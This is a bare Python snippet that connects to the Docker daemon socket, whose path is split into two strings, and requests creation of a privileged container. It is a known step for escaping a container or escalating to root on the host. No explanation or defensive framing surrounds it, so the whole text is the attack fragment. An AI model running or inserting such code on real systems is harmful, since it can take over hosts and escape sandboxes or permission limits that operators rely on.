import http.client, socket, json
class Unix(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect('/var/run/' + 'docker.sock')
u = Unix('localhost')
u.request('POST', '/containers/create', json.dumps({'Image': 'a', 'HostConfig': {'Privileged': True}}))
